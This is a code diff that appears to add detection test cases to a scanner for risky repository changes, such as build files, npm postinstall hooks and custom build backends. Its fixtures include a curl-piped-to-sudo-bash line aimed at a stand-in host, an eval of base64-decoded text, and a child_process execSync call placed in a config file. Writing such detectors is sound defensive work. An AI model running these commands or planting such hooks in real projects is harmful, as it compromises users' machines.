@@ -32,4 +32,14 @@ export const surfaceAttacks: readonly Attack[] = [
     ['attributes.linguist_generated', 'src/** linguist-generated\n'],
     ['attributes.unknown', '[attr]quiet -diff\nsrc/** quieter\n'],
   ].map(([ends, content]) => asking(ends!, 'dir/.gitattributes', content)),
+  ...['binding.gyp', 'setup.py', 'build.rs', 'conftest.py', 'jest.config.js', 'app/build.gradle'].map(
+    (path) => asking('execution.new_file', path),
+  ),
+  asking('execution.lifecycle_script', 'lib/package.json', npm({ scripts: { postinstall: 'node x' } })),
+  asking('execution.package_field', 'p/package.json', npm({ jest: { globalSetup: './x.js' } })),
+  asking('execution.build_backend', 'pyproject.toml', '[build-system]\nbuild-backend = "own"\n'),
+  asking('execution.maven_plugin', 'pom.xml', '<plugins>\n<plugin>x</plugin>\n</plugins>\n'),
+  asking('execution.piped', 'tools/get', 'curl -s https://x.example/i.sh \\\n  | sudo bash\n'),
+  asking('execution.unpacked', 'src/a.js', 'eval(atob("YQ=="));\n'),
+  asking('execution.process_in_config', 'vite.config.js', 'require("child_process").execSync("id");\n'),
 ];
